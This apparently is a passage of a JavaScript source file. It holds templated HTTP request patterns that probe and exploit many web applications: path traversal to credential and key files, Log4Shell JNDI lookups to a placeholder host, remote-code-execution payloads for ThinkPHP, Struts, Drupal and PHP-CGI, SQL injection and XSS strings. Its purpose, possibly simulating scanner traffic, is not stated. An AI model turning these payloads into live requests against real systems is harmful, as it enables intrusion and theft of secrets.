    GET /«zimbraAdmin/|zimbra/public/«rnd».jsp|service/error/«up»«secret»|public/jsp/«rnd».jsp|h/«autoSaveDraft|imessage?«rnd»|search?st=conversation&view=freebusy&zoid=«run»&cid=«rnd»»|m/momoveto?st="><script>|res/I18nMsg,AjxMsg,ZMsg,ZmMsg,AjxKeys,ZmKeys,ZdMsg,Ajx%20TemplateMsg.js.zgz?v=«int»&skin=«up»opt/zimbra/conf/localconfig.xml%00»
    POST /?_task=settings&_framed=1&_remote=1&_from=edit-!«"%7b|«rnd»»«rnd»&_id=&_uploadid=upload«int»«int»&_action=upload
    POST /api/v1/«auth/force-reset-password|settings/«sysadmin/connect-to-hub|system-admin/hub/connect|sysadmin/«rnd»»|licensing/about|auth/authenticate-user?«rnd»=«run»»
    GET /«MEWebMail/«rnd»|Mondo/lang/sys/Failure.aspx?state=19753%22;}alert(«int»);//|WorldClient.dll?View=Main|webmail/?color=%22%3E%3Csvg|mailbox/«rnd»/«up»«secret»|interface/root#/login»
    POST /«password_change.cgi|rpc.cgi|unauthenticated/../«rnd».cgi|session_login.cgi?«rnd»=%0a«rnd»|package-updates/update.cgi»
    POST /login/index.php?login=$(«cmd»)
    «POST|OPTIONS» /«dataBases/upgrademysqlstatus|ftp/getresetstatus|dns/getresetstatus|filemanager/upload|websites/fetchFolderStatus»
    POST /vendor/htmlawed/htmlawed/htmLawedTest.php
    GET /«glpi/||support/»«vendor/htmlawed/htmlawed/htmLawedTest.php|ajax/«telemetry|comments».php?«rnd»=«run»|plugins/fields/front/container.form.php?«rnd»=«rnd»|front/document.send.php?file=_log/«php-errors|sql-errors».log|marketplace/barcode/front/send.php?file=«up»«secret»|plugins/barcode/front/send.php?file=«up»«secret»»
    GET /«cacti/|»remote_agent.php?action=polldata&local_data_ids[0]=«int»&host_id=«digit»&poller_id=«run»
    GET /«cacti/|»«graph_realtime.php?action=countdown&top=00_00_00&left=«run»|cmd_realtime.php?«int»+«int»+«cmd»|graph_view.php?action=tree_content&rfilter=«rnd»"+OR+«rnd»|color.php?action=export&filter=1')+UNION+SELECT+1,«rnd»--»
    GET /«zabbix/|»«index_sso.php|setup.php|jsrpc.php?sid=«rnd»&type=«int»&method=screen.get&profileIdx2=updatexml(0,concat(0xa,user()),0)|latest.php?output=ajax&toggle_ids[]=1;select+*+from+users+where+«n=int»=«$n»|zabbix.php?action=script.execute&«rnd»=«int»»
    GET /public/plugins/«alertlist|annolist|barchart|cloudwatch|dashlist|elasticsearch|gauge|geomap|grafana-azure-monitor-datasource|graph|heatmap|influxdb|loki|logs|mysql|news|opentsdb|pluginlist|postgres|prometheus|stat|state-timeline|table|tempo|text|timeseries|welcome|xychart|zipkin»/«up»«up»«up»«secret|conf/defaults.ini|etc/grafana/grafana.ini|var/lib/grafana/grafana.db»
    GET /«render/public/..%252f%255C«host»%252f%253F%252f..%252f..|avatar/%7b%7bprintf%20%22%25s%22%20%22this.Url%22%7d%7d|avatar/«hex32»?d=«rnd».«host»|dashboard/snapshot/%7B%7Bconstructor.constructor('alert(«int»)')()%7D%7D?orgId=1|user/auth-tokens/rotate?redirectTo=/«bs»«host»|api/snapshots/:key|login?redirect=/«bs»«host»/..»
    POST /«api/timelion/run|api/console/proxy?path=«rnd»&method=GET|internal/search/«rnd»»
    GET /«api/console/api_server?sense_version=@@SENSE_VERSION&apis=«up»«up»«secret»|_plugin/head/«up»«secret»|_snapshot/«rnd»/«rnd»%2f«up»«secret»|_cat/«indices|nodes|allocation|master»«?v|»|_nodes«|/stats|/_all»|_cluster/«health|settings|state»|_search?source={"script_fields":{"«rnd»":{"script":"«rnd»"}}}»
    POST /_search?pretty
    POST /«cli?remoting=false|script|jenkins/script|pluginManager/installNecessaryPlugins|createItem?name=«rnd»»
    GET /«|jenkins/»securityRealm/user/«admin|«rnd»»/descriptorByName/org.jenkinsci.plugins.«scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=«rnd»+{«rnd»}|github.config.GitHubTokenCredentialsCreator/createTokenByPassword?apiUrl=«url»|workflow.cps.CpsFlowDefinition/checkScriptCompile?value=@«Rnd»(«rnd»)»
    GET /«|jenkins/»«script|systemInfo|asynchPeople/|whoAmI/|jnlpJars/jenkins-cli.jar|view/all/newJob|pluginManager/|userContent/«up»«secret»|plugin/«rnd»/..%2f..%2f«secret»|«up»«up»«secret»|git/notifyCommit?url=«url|«run»»&branches=«rnd»»
    POST /users/password?user[email][]=«email»&user[email][]=«email»
    POST /uploads/user
    GET /api/v4/ci/lint?include_merged_yaml=true&content=«rnd»
    POST /app/rest/«users/id:1/tokens/RPC2|users|debug/processes?exePath=«cmd»&params=«rnd»|server/RPC2»
    GET /hax?jsp=/app/rest/«users|server|users/id:1/tokens/«rnd»|debug/jvm/systemProperties»;.jsp
    GET /«rnd»?jsp=/«app|admin|login|«rnd»»/«rest/«rnd»|«rnd»»«;.jsp|;«letter».jsp»
    GET /«res|update|overview|saml»/«up»app/rest/«rnd»
    POST /«service/rest/beta/repositories/go/group|service/extdirect|service/rest/internal/ui/«rnd»|rest/beta/repositories/bower/group»
    GET /%2F%2F%2F%2F%2F%2F%2F..%2F..%2F..%2F..%2F..%2F«etc%2Fpasswd|windows%2Fwin.ini|etc%2Fshadow»
    POST /api/setup/validate
    GET /api/«session/properties|geojson?url=file:/«secret»|geojson?url=«url»|setup/setup-check|setup/user_defaults»
    GET /?n=%0A&cmd=«cmd»&search=%25xxx%25url%25:%password%}{.exec|{.?cmd.}|timeout=15|out=abc.}{.?n.}{.?n.}RESULT:{.?n.}{.^abc.}===={.?n.}
    GET /?search==%00{.exec|«cmd».}
    GET /setup/setup-s/«%u002e%u002e/%u002e%u002e|..%2f..|%2e%2e/%2e%2e»/«log|user-groups|user-create|server-properties|plugin-admin».jsp«|?«rnd»=«rnd»»
    GET /«|/|///»CFIDE/«adminapi/«base.cfc|administrator.cfc?method=«rnd»|accessmanager.cfc?method=foo&_cfclient=true»|wizards/common/utils.cfc?method=wizardHash&inPassword=«rnd»«|&_cfclient=true»|administrator/«|index.cfm|enter.cfm?locale=«up»«up»lib/password.properties%00en|archives/index.cfm|settings/mappings.cfm»|componentutils/|probe.cfm»
    POST /cf_scripts/scripts/ajax/«package/cfajax.js|ckeditor/plugins/filemanager/«iedit.cfc?method=«rnd»&_cfclient=true|upload.cfm»|«rnd».cfc?method=«rnd»&_cfclient=«true|«rnd»»»
    POST /«flex2gateway/«|amf|http»|pms?module=logging&file_name=«up»«up»«secret»&number_of_lines=«int»|hax/..CFIDE/«rnd».cfm»
    GET /adminui/«debug?debug=OGNL:«el»|«rnd»»
    GET /«bin/querybuilder.json«|.css|;«rnd».css»?«path=/etc|type=rep:User»&p.limit=-1|crx/«de/index.jsp|packmgr/index.jsp|explorer/«rnd»»|system/console«|/bundles|/status-productinfo»|content/usergenerated/«rnd».html|etc/«packages|reports/«rnd»».json|libs/«granite/security/currentuser.json|opensocial/proxy?container=default&url=«url»|cq/«rnd»»|.children.«int».json|apps.tidy.infinity.json|home/users.«int».json»
    POST /sitecore/«shell/ClientBin/Reporting/Report.ashx|shell/sitecore.version.xml|api/ssc/auth/login|«rnd»/-/xaml/«rnd».aspx?hdl=«int»»
    GET /«-/xaml/Sitecore.Shell.«rnd»?«rnd»|sitecore/«login|shell/sitecore.version.xml|admin/«rnd».aspx|blocked.aspx»»
    GET /«umbraco/«rnd».asmx|kentico/CMSPages/«Staging/SyncServer.asmx|GetResource.ashx?container=«rnd»&image=«up»«rnd»|«rnd».ashx»|CMSPages/Staging/SyncServer.asmx|storage/t/f?p=«base64»&s=«base64»|portal/loginpage.aspx|api/BetterImageGallery/imagehandler?path=«up»Web.Config|DNNImageHandler.ashx?mode=file&url=«url»|DnnImageHandler.ashx?mode=file&file=«up»«secret»|Orion/«invalid.aspx.js|SkipLoginAction.i18n/«rnd»|Login.aspx»|web.config.i18n.ashx?l=«rnd»&v=«rnd»|helpdesk/WebObjects/Helpdesk.woa/«rnd»|Default.aspx?«rnd»=<script>|filedownload.ashx?«rnd»=«up»web.config|MagicInfo/servlet/SWUpdateFileUploadServlet?fileName=«up»«rnd».jsp|iclock/file?SN=win&url=«up»«up»«secret»|pentaho/api/ldap/config/ldapTreeNodeChildren/require.js?url=«el»&mgrDn=«letter»&pwd=«letter»|spog/«rnd»|resources/qmc/fonts/«up»qrs/«rnd».ttf»
    POST /WSMAN
    GET /mailinspector/public/loader.php?path=«up»«up»«secret»
    POST /«npm-pwg/..;/|npm-admin/..;/»«ReconcileWizard/reconcilewizard/sc/IDACall?isc_rpc=1&isc_v=&isc_tnum=2|usp/«searchUsers|home|«rnd»».do»
    GET /«ucmdb-server/cms|servlet/FetchFile?fileName=«up»«secret»|servlet/«rnd»|RestAPI/«LogonCustomization|ImportTechnicians|WC/«rnd»|Connection»|./RestAPI/LogonCustomization|STATE_ID/«int»/RestAPI/«rnd»|servlets/«FetchFile|«rnd»»?«rnd»=«up»«rnd»|samlLogin«|/«rnd»»|OpenManager/«rnd»|fileupload?uploadType=«rnd»»
    POST /«samlLogin|SamlResponseServlet|servlet/UploadFileServlet?«rnd»=«up»«rnd»»
    GET /«apps/«files/ajax/download.php?dir=«up»|graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php«|/.css|/«rnd».js»|gallery/«rnd».php»|owncloud/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php|index.php/apps/«user_saml|richdocuments»/«rnd»/«up»«secret»|ocs/v1.php/«cloud/users|config»?«rnd»=«run»|remote.php/dav/files/«rnd»?OC-Credential=«rnd»&OC-Verb=GET&OC-Expires=«int»&OC-Date=«rnd»&OC-Signature=«rnd»»
    GET /«apps/files_external/«rnd».php|graphapi/vendor/microsoft/microsoft-graph-core/tests/GetPhpInfo.php|vendor/«microsoft/«rnd»/tests/GetPhpInfo.php|«rnd»/«rnd»/tests/«rnd».php»»`,

  software: lines`
    GET /actuator/«env|heapdump|gateway/routes|mappings|configprops|threaddump|jolokia|logfile|beans|trace|httptrace|refresh|conditions|scheduledtasks|auditevents|caches»
    POST /actuator/«gateway/routes/«rnd»|env|restart|refresh|gateway/refresh|shutdown|loggers/«rnd»»
    GET /«api|admin|manage|management|monitor|«noun»|v1|prod-api|gateway|actuator;|;»/«actuator/«env|heapdump|gateway/routes|mappings|configprops»|env|heapdump|jolokia/list»
    POST /functionRouter
    GET /«rnd»«|.jsp|.do»?class.module.classLoader.«resources.context.parent.pipeline.first.«pattern|suffix|directory|prefix|fileDateFormat»=«rnd»|URLs[0]=«int»|defaultAssertionStatus=«rnd»»
    POST /users?page=&size=«digit»&username[#this.getClass().forName("«rnd»")]=«rnd»
    GET /?«rnd»=\${jndi:«ldap|rmi|dns»://«host»/«rnd»}
    POST /_ignition/«execute-solution|update-config»
    GET /_ignition/«health-check|scripts/«rnd»|styles/«rnd»»
    POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
    GET /«lib|panel|yii|zend|ws/ec|backup|laravel|www|cms|crm|demo|blog|api|admin|apps|old|new|test|tests|testing|public|workspace|V2|app|ws|vendor|protected|dev|core|site|sites/all/libraries/«rnd»|wp-content/plugins/«rnd»|modules/«rnd»|«rnd»»/«vendor/|»phpunit/«phpunit/|»«src/|»Util/PHP/«eval-stdin|evalstdin».php
    POST /«hello.world|index.php|test.php|php-cgi/php-cgi.exe|cgi-bin/php-cgi.exe|php-cgi/php|«rnd».php|»?«%AD|%ad»d+«cgi.force_redirect%3d0+%ADd+|»allow_url_include%3«d|D»«1|on»+«%AD|%ad»d+auto_prepend_file%3«d|D»php://input
    POST /cgi-bin/«php|php5|php-cgi|php.cgi|php4»?%2D%64+«%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E|allow_url_include%3Don»+%2D%64+%73%61%66%65%5F%6D%6F%64%65%3D%6F%66%66
    GET /«public/|»index.php?s=«/|»«Index|index»/\think\«app|Container|Request|module|view\driver\Php|Lang»/«invokefunction|invokeFunction|input|display|load»&«function=call_user_func_array&vars[0]=«phpinfo|system|md5|assert|shell_exec»&vars[1][]=«-1|1|«rnd»|«cmd»»|filter«|[]»=«phpinfo|system»&data=«1|«cmd»»|content=<?php phpinfo();?>»
    GET /«index.php|public/index.php|»?lang=«up»«up»«usr/local/lib/php/|usr/share/php/|»pearcmd«|.php»&+config-create+/&/<?=«phpinfo()|eval($_POST[«digit»])|«rnd»»?>+/tmp/«rnd».php
    GET /«index.php|»?«s=captcha&«rnd»=«rnd»|m=member&c=index&a=register&siteid=1|g=Portal&m=Page&a=fetch&templateFile=«rnd»&content=<php>«rnd»</php>|a=display&templateFile=«README.md|«up»«secret»»|m=Home&c=Index&a=index&value[_filename]=«up»«rnd».log»
    POST /user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax
    GET /«node/«int»?_format=hal_json|?q=user/password&name[%23post_render][]=«passthru|exec»&name[%23type]=markup&name[%23markup]=«cmd»|user/«int»/cancel?destination=/user/«int»/cancel%3Fq[%2523post_render][]=«rnd»|jsonapi/node/article?filter%5B«rnd»%5D%5Bcondition%5D%5Bvalue%5D%5B0%7C%7C%28SELECT%20%27«rnd»%27%3A%3Atext%5B%5D%29%5D=«rnd»»
    GET /api/index.php/v1/«config/application|users»?public=true
    GET /index.php?option=com_«fields&view=fields&layout=modal&list[fullordering]=updatexml(0x«hex2»,concat(1,«rnd»()),1)|«rnd»&view=«rnd»&controller=«up»«secret»%00|content&view=featured&Itemid=1+and+(select+«rnd»)|«rnd»&task=«rnd»&file=«up»configuration.php»
    POST /ajax/«render/widget_tabbedcontainer_tab_panel|api/content_infraction/getIndexableContent|api/ad/replaceAdTemplate»
    POST /wp-content/plugins/«wp-file-manager/lib/php/connector.minimal.php|wp-automatic/inc/csv.php|«rnd»/«upload|ajax|import|inc/«rnd»».php»
    GET /wp-content/«debug.log|plugins/«mail-masta/inc/campaign/count_of_send.php?pl=«up»«secret»|site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php?ajax_path=/«secret»|gracemedia-media-player/templates/files/ajax_controller.php?cfg=«up»«secret»|«rnd»/«download|dl|thumb|timthumb|proxy|file|load-scripts|upload».php?«file|path|src|url|f|filename»=«up»«wp-config.php|«secret»»|«rnd»/readme.txt|w3-total-cache/pub/sns.php|backup-backup/includes/backup-heart.php|hunk-companion/«rnd».php|wp-query-console/«rnd»»|uploads/«dump.sql|«rnd».php|20«digit»«digit»/0«small»/«rnd».php|wpo_wcpdf/«rnd»|backup-«rnd».zip|«rnd»/debug.log»|backups«|-dup-lite/|/»|updraft/|mysql.sql|error.log|envato-backups/»
    GET /wp-admin/admin-ajax.php?action=«duplicator_download&file=«up»«wp-config.php|etc/passwd»|revslider_show_image&img=«up»wp-config.php|«rnd»&«file|img|url|path|template|tpl»=«up»«wp-config.php|«secret»»|«rnd»&«id|post_id|order»=«int»+union+select+«int»,«int»--+-|wpdm_ajax_call&execute=«rnd»|nopriv_«rnd»&cmd=«cmd»»
    POST /wp-admin/«admin-ajax.php?action=«sneeit_articles_pagination|wcap_«rnd»|uploadify|getCountryUser&cs=«rnd»|upload_file|wpgmza_«rnd»»|admin-post.php?«swp_debug=load_options&swp_url=«url»|action=«rnd»&page=«rnd»»»
    POST /wp-json/«bricks/v1/render_element|wp/v2/posts/«int»?id=«int»«rnd»|hc/v1/themehunk-import|siteground-security/v1/«rnd»|startklar/«rnd»|pie/v1/«rnd»|suretriggers/v1/automation/action|ottokit/v1/«rnd»|gravitysmtp/v1/tests/mock-data?page=gravitysmtp-settings|motors/v1/«rnd»»
    GET /«?rest_route=/«essential-blocks/v1/products&is_frontend=true&attributes={"__file":"/«secret»"}|wp/v2/users|«rnd»/v1/«rnd»»|wp-json/wp/v2/users«|/|?per_page=100|/«digit»»|wp-json/«gravitysmtp/v1/config|litespeed/v1/cdn_status|gf/v2/forms|wc/v3/«rnd»|acf/v3/options|lp/v1/courses/archive-course?«rnd»=«int»+union+select»|?author=«int»»
    GET /wp-config.php«.bak|~|.swp|.old|.save|.txt|.orig|.zip|.html|_|.1»
    GET /index.php?p=admin/«actions/assets/generate-transform|dashboard&a=<?=«rnd»?>|install»
    POST /«index.php?p=«admin/|»actions/assets/generate-transform|actions/assets/generate-transform|?action=«users/«rnd»|conditions/render»|index.php?p=admin/dashboard&a=<?=file_put_contents('«rnd».php','«rnd»')?>»
    GET /?--«templatesPath|configPath|basePath|vendorPath»=«ftp|smb|http»://«host»/«rnd»
    GET /«bonita|bonitasoft»/API/«rnd»;i18ntranslation
    POST /«|bonita/»API/pageUpload;i18ntranslation?action=add
    POST /webtools/control/«xmlrpc«|;/?USERNAME=&PASSWORD=«|«letter»»&requirePasswordChange=Y|/«rnd»»|ProgramExport«|/?USERNAME=&PASSWORD=«letter»&requirePasswordChange=Y|;/«rnd»»|main/ProgramExport|forgotPassword;/«ProgramExport|«rnd»»|forgotPassword/«ProgramExport|xmldsdump|StatsSinceStart|viewdatafile»|showDateTime/ProgramExport|TestService|SOAPService|stream?contentId=«up»«secret»»
    GET /webtools/control/«ping?USERNAME=&PASSWORD=&requirePasswordChange=Y|xmlrpc|main|forgotPassword;/ProgramExport»
    POST /solr/«rnd»/«config|dataimport?_=«int»&indent=on&wt=json|debug/dump?param=ContentStreams|update?stream.url=«url»»
    GET /solr/«rnd»/«select?q=«int»&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27«rnd»%27))|debug/dump?param=ContentStreams&stream.url=file:///«secret»|replication/?command=fetchindex&masterUrl=«url»|admin/«ping|file/?file=solrconfig.xml»»
    GET /solr/admin/«info/system?wt=json|cores?«wt=json|action=«STATUS|CREATE&name=\${jndi:ldap://«host»/«rnd»}»»|collections?action=\${jndi:ldap://«host»}|metrics|configs?action=UPLOAD»
    GET /solr/«|#/»
    POST /druid/indexer/v1/sampler«|?for=«filter|connect|timestamp|timestamp-column»»
    GET /druid/«index.html|login.html|websession.html|weburi.html|sql.html|datasource.json|basic.json|submitLogin|spring.html|coordinator/v1/«rnd»»
    POST /druid/submitLogin
    GET /«nacos/|»«nacos/v1/«auth/users?pageNo=«digit»&pageSize=«digit»«|&search=accurate|&accessToken=«rnd»»|cs/«configs?search=accurate&dataId=&group=&pageNo=1&pageSize=99|ops/derby?sql=select+*+from+«rnd»»|console/server/state|core/cluster/nodes»|v1/auth/users?pageNo=1&pageSize=9|#/login»
    POST /nacos/v1/«auth/users?username=«rnd»&password=«rnd»|auth/users/login|cs/ops/data/removal»
    GET /xxl-job-admin/«login|toLogin|«rnd»»
    POST /xxl-job-admin/«login|api/registry»
    GET /«seeyon/«htmlofficeservlet|thirdpartyController.do?method=access&enc=«rnd»|webmail.do?method=doDownloadAtt&filename=«rnd»&filePath=«up»conf/datasourceCtp.properties|test123456.jsp?pwd=«rnd»&cmd=«cmd»»|weaver/«bsh.servlet.BshServlet|ln.FileDownload?fpath=«up»ecology/WEB-INF/web.xml|«rnd».jsp»|general/«login_code.php|«rnd»/«rnd».php»|ispirit/«im/upload|interface/gateway».php|mac/gateway.php|yyoa/«rnd».jsp|NCFindWeb?service=IPreAlertConfigService&filename=|servlet/~ic/bsh.servlet.BshServlet|uapws/service|eoffice10/«rnd».php|E-mobile/«rnd».php|tplus/«rnd».aspx?preload=1|ServiceAction/«rnd»|inc/«rnd»/«rnd».php|mobile/%20/plugin/browser.jsp?isDis=1&browserTypeId=«int»&keyword=%2525«hex2»%2525«hex2»|defaultroot/«rnd».jsp?«rnd»=«run»|OAapp/«rnd»»
    POST /«weaver/«bsh.servlet.BshServlet|«rnd»Servlet»|seeyon/«htmlofficeservlet|autoinstall.do/../../seeyon/fileUpload.do?method=processUpload|thirdpartyController.do»|servlet/«FileReceiveServlet|~ic/bsh.servlet.BshServlet»|aim/equipmap/accept.jsp|uapim/upload/grouptemplet?groupid=«rnd»&fileType=jsp|ispirit/im/upload.php|eis/service/api.aspx?action=saveImg|general/«rnd».php|Action/GetRoleOrg|C6/«rnd».aspx|K3Cloud/«rnd».common.kdsvc»
    GET /geoserver/«wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=«rnd»:«rnd»&valueReference=exec(java.lang.Runtime.getRuntime(),'«cmd»')|ows?service=wfs&version=1.0.0&request=GetFeature&typeName=«rnd»:«rnd»&CQL_FILTER=strStartsWith(«rnd»,'«rnd»'')+=+true+and+1=(SELECT+CAST+(«rnd»)«rnd»|TestWfsPost?form_hf_0=&url=«url»&body=|web/wicket/bookmarkable/org.geoserver.«web.«AboutGeoServerPage|demo.MapPreviewPage»|wps.web.WPSRequestBuilder»|rest/about/«version|manifest»|j_spring_security_check»
    POST /geoserver/«wfs|wms|wps|ows|j_spring_security_check|TestWfsPost|rest/«rnd»»
    GET /«xwiki/||webapps/xwiki/»«bin/get/Main/SolrSearch?media=rss&text=%7D%7D%7D%7B%7Basync%20async%3Dfalse%7D%7D%7B%7Bgroovy%7D%7D«rnd»(%22«cmd»%22.execute().text)%7B%7B/groovy%7D%7D%7B%7B/async%7D%7D|bin/view/«rnd»/?«rnd»={{velocity}}«rnd»{{/velocity}}|WEB-INF/xwiki.«cfg|properties»|bin/ssx/Main/WebHome?resource=/../../WEB-INF/xwiki.cfg&minify=false|bin/jsx/Main/WebHome?resource=/../../WEB-INF/«rnd».xml»
    GET /api/experimental/«latest_runs|dags/«rnd»»
    POST /api/experimental/dags/«rnd»/«paused/false|dag_runs»
    POST /«apisix/batch-requests|apisix/admin/routes|gremlin|api/«serve/applications/|v1/validate/code|v1/build_public_tmp/«guid»/flow|v1/auto_login|v1/node-load-method/«rnd»»»
    GET /api/v1/«validate/code|auto_login|node-load-method/«rnd»|fetch-links?url=«url»|get-upload-file?chatflowId=«rnd»&chatId=«up»&fileName=«rnd»»
    POST /api/v1/«validate/code|attachments/«up»«rnd»/«rnd»|node-load-method/customMCP|account/forgot-password|openai-assistants-file/download»
    GET /?doAs=«run»
    GET /jobmanager/logs/«..%252f..%252f..%252f..%252f..%252f|up»«etc%252fpasswd|«secret»»
    POST /jars/upload
    PUT /fileserver/«rnd».«jsp|txt»
    MOVE /fileserver/«rnd».txt
    GET /«admin/|fileserver/»«test/index.jsp|«rnd».jsp|test/systemProperties.jsp»
    GET /api/jolokia/«list|exec/«rnd»|read/java.lang:type=Runtime»
    PUT /«rnd».«jsp|jspx|txt»«/|%20|::$DATA|»
    PUT /«rnd»/session
    PUT /«.|»«rnd».session
    GET /manager/«html|text/list|status|jmxproxy/?get=«rnd»»
    POST /api/jsonws/«invoke|expandocolumn/update-column|user/«rnd»»
    GET /api/jsonws«|/invoke|?contextName=&signature=«rnd»»
    GET /@fs/«secret|app/.env|root/.aws/credentials|home/«rnd»/.ssh/id_rsa|«rnd»/«rnd».«tfvars|tfstate|env|pem|key|yml|json»|etc/passwd|var/www/«rnd»/.env|proc/self/environ|C:/windows/win.ini|x/x/x/vite/«up»«secret»|src/«rnd»/.env.local»«|?raw??|?import&raw??|?raw|?url|?import&raw|?import&?inline=1.wasm?init|?meteorhmr=import&raw??»
    GET /@fs/«app|src|home/«rnd»|var/www/html|root|usr/src/app|opt/«rnd»»/«.env|.aws/credentials|.ssh/id_rsa|config.«json|yml»|«rnd».«tfvars|env|key|pem|py|php|sql»|docker-compose.yml|secrets.«json|yml»|package.json»«|?raw??|?import&raw??»
    GET /«rnd|«noun»|webapps/«rnd»|app|portal|web|ROOT|api»/WEB-INF/«web.xml|«rnd».«xml|properties|cfg|conf»|classes/«application|«rnd»|db|jdbc».«properties|yml|xml|class»|spring/«rnd».xml|lib/«rnd».jar»
    GET /«WEB-INF|META-INF|web-inf»/«web.xml|context.xml|MANIFEST.MF|«rnd».«xml|properties|cfg»|classes/«rnd».«properties|class»»
    GET /@id/«__x00__?import|«secret»?import&raw»
    GET /«__nuxt_error?stack=«rnd»|_nuxt/@fs/«secret»|_nuxt/«up»«secret»?raw??|__webpack_hmr/«up»«secret»|_next/«static/«up»«secret»|data/«up»«secret»|../../../../../../«secret»»|@vite/env|node_modules/«up»«up»«secret»|static../«secret»|assets../«rnd»|build/«up»«secret»|_astro/«up»«rnd»|.vite/deps/«up»«secret»»
    GET /v1.«digit»«digit»/«containers/json|images/json|info|version»
    POST /v1.«digit»«digit»/«containers/create|images/create?fromImage=«rnd»|exec/«hex8»/start»
    POST /«containers/create|exec/«hex32»/start|run/«rnd»/«rnd»/«rnd»»
    GET /«containers/json|v2/_catalog|api/v1/«namespaces/«default|kube-system»/«pods|secrets»|secrets|pods|nodes»|apis/apps/v1/«rnd»|v2/keys/?recursive=true|v1/«agent/self|kv/?recurse|catalog/services»|ws/v1/cluster/«info|apps/new-application»|webhdfs/v1/?op=LISTSTATUS|jmx|dfshealth.html|stacks|explorer.html|_utils/|_all_dbs|_users/_all_docs»
    POST /ws/v1/cluster/apps«|/new-application»
    GET /«debug/pprof/«|heap|goroutine?debug=«digit»|cmdline»|debug/vars|trace.axd|elmah.axd|server-«status|info»|nginx_status|telescope/«requests|queries|exceptions»|_profiler/«phpinfo|latest|open?file=«secret»|empty/search/results»|horizon/«rnd»|_debugbar/open|__debug__/|h2-console/«|login.jsp»|phpinfo|info.php|phpinfo.php|app_dev.php/_profiler/phpinfo|_wdt/«hex4»|config_dev.php»
    GET /«phpmyadmin|phpMyAdmin|pma|PMA|myadmin|dbadmin|mysql|sql»/«index.php?«target=db_sql.php%253f/«up»«up»«secret»|db=information_schema&«rnd»=«up»»|scripts/setup.php|setup/index.php|import.php»
    GET /phpMyAdmin-«digit».«digit».«digit»/«index.php|scripts/setup.php»
    GET /«adminer|adminer-4.«digit».«digit»|_adminer|db/adminer|Adminer|adminer-«rnd»».php«|?«elastic|pgsql|mssql|oracle|server»=«host»&username=«rnd»»
    GET /«?XDEBUG_SESSION_START=«phpstorm|«rnd»»|?=PHP«hex8»-«hex4»-11d2-A769-00AA001ACF42|?-s|?phpinfo=-1|?phpinfo=1|index.php?-d+«rnd»%3d«rnd»|?debug=command&expression=«el»|?q[«%23|%2523»post_render][]=«rnd»»
    GET /«plus|dede|member|include»/«mytag_js.php?aid=«int»|download.php?open=1&arrs1[]=«int»|recommend.php?action=&aid=1&_FILES[type][tmp_name]=«rnd»|ad_js.php?aid=«int»|flink.php|carbuyaction.php»
    GET /«index.action|index.do|login.action|struts2-showcase/«rnd».action|«rnd».action|«rnd».do»?«redirect|action|redirectAction»:«el»
    GET /«rnd».«action|do»?«method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23«rnd»|debug=browser&object=%28%23_memberAccess%3D«rnd»%29|«rnd»=%25{%23«rnd»%3d«int»}»
    GET /\${(«int»*«int»)}/«actionChain1|help|«rnd»».action
    GET /«cgi-bin|icons|css|images|assets»/«.%2e/.%2e/.%2e/.%2e/|%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/|.%%32%65/.%%32%65/.%%32%65/|%2e%2e/%2e%2e/%2e%2e/|..%%32%66..%%32%66|.%2e/%2e%2e/%2e%2e/%2e%2e/»«bin/sh|bin/bash|etc/passwd|bin/id|etc/hosts»
    POST /cgi-bin/«.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh|%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh|.%%32%65/.%%32%65/.%%32%65/bin/bash|«rnd».cgi?«rnd»=«run»»
    GET /bitrix/«redirect.php?event1=«rnd»&goto=«url»|rk.php?goto=«url»|tools/«vote/uf.php?attachId[ENTITY_TYPE]=«rnd»&attachId[ENTITY_ID][events]«rnd»|upload.php»|admin/«rnd».php?«rnd»=«up»«secret»»
    POST /bitrix/tools/«vote/uf.php|html_editor_action.php|«rnd».php»
    POST /«rest|static../|index.php/rest»/«default/|all/|»V1/«guest-carts/«hex32»/«rnd»/../..|customers/«rnd»?«rnd»=«run»|directory/«rnd»»
    POST /customer/address_file/upload
    GET /«magento_version|downloader/|app/etc/«local.xml|env.php»|rss/catalog/«rnd»?«rnd»=«run»|catalog/product_frontend_action/synchronize?type_id=recently_products&ids[0][product_id][from]=?&ids[0][product_id][to]=)))+OR+(SELECT+«rnd»)|modules/«rnd»/«rnd».php?«rnd»=«int»+AND+«rnd»(«int»)|module/«rnd»/«rnd»?id_«rnd»=«int»';select+«rnd»»
    GET /index.php?route=«rnd»/«rnd»&«file|path|template»=«up»«secret»
    POST /«index.php?r=«site/«rnd»|users/«rnd»»&«rnd»={"as «rnd»":{"class":"«rnd»"}}|admin/tinymce/upload|options.php|ajax.php?action=«save_user|login|upload»|classes/Master.php?f=«rnd»|classes/Users.php?f=save|admin/ajax.php?action=«rnd»|upload/«rnd».php?«rnd»=«run»»
    GET /«webmail/|roundcube/|»«installer/«index.php|?_step=3&host=«run»»|bin/«rnd».sh|?_task=mail&_action=get&_file=«up»«secret»|plugins/acl/tests/«rnd».php|config/config.inc.php.bak|logs/errors.log|temp/«rnd»»
    GET /«graphql|api/graphql|v1/graphql|gql|query»?query={__schema{types{name«| fields{name}»}}}
    POST /«api/«pull|tags/«rnd»/..%2f..»|api/«mcp|chat|agent»/«rnd»?«rnd»=«run»|gradio_api/«rnd»=«up»»
